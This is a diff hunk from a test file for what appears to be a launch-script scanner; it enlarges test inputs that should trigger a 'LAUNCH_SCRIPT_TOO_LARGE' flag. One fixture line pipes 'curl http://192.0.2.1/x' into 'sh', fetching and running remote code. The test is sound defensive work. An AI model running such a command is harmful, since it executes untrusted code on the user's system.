@@ -128,10 +128,10 @@ describe('what cannot be followed is a gap that counts as executable', () => {
   });
 
   test('one that is too large', () => {
-    assert.deepEqual(codes(`#!/bin/sh\ncurl http://192.0.2.1/x | sh\n${'#\n'.repeat(160_000)}`), [
+    assert.deepEqual(codes(`#!/bin/sh\ncurl http://192.0.2.1/x | sh\n${'#\n'.repeat(600_000)}`), [
       ['LAUNCH_SCRIPT_TOO_LARGE', true, 'start.sh'],
     ]);
-    assert.deepEqual(codes(`#!/bin/sh\napp\n${'#\n'.repeat(80_000)}`), []);
+    assert.deepEqual(codes(`#!/bin/sh\napp\n${'#\n'.repeat(300_000)}`), []);
   });
 
   test('one that looks like data to whoever goes by names', () => {
